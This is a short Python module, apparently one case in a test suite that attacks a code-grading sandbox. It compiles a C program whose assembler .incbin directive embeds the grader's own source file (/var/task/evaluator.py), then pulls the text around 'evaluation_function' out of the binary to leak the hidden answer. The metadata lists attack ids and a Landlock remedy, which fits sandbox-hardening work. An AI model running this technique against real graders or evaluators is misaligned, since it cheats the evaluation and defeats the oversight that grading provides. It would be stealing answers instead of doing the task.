# SPDX-License-Identifier: MIT
"""Goal:  the evaluator's source, with the answer in it.
Means: the assembler's .incbin puts any file into a program as data. What is compiled for the
       student is compiled with the grader's rights; a check of the source for "#include" or "open"
       sees neither.
"""

import subprocess

from attack import DONE, attempting, denied, loot

BYTES = 65536
PROGRAM = b"""
__asm__(".data\\nsource: .incbin \\"/var/task/evaluator.py\\"\\n");
int main(void) { return 0; }
"""


def run(brief):
    made = f"{brief.name}.out"
    attempting()
    try:
        subprocess.run(["gcc", "-x", "c", "-o", made, "-"], input=PROGRAM, check=True,
                       env={"PATH": "/usr/bin:/bin"}, capture_output=True, timeout=8)
        with open(made, "rb") as file:
            program = file.read(BYTES)
    except (OSError, subprocess.SubprocessError) as why:
        return denied("gcc", why)
    at = program.find(b"evaluation_function")
    around = program[max(at - 1024, 0):at + 1024]
    loot(bytes(byte for byte in around if byte < 128 and (byte >= 32 or byte == 10)))
    return DONE


ATTACK = {
    "effect": "the evaluator's source leaves in the student's own program",
    "means": ".incbin in a program that is compiled for the student",
    "oracle": "secret:task",
    "needs": ["cc"],
    "id": "SRC-10",
    "attack_id": "T1005, CWE-829",
    "remedy": "the compiler behind the program's own walls: Landlock without the function's folder",
    "refs": ["as(1), .incbin"],
    "run": run,
}
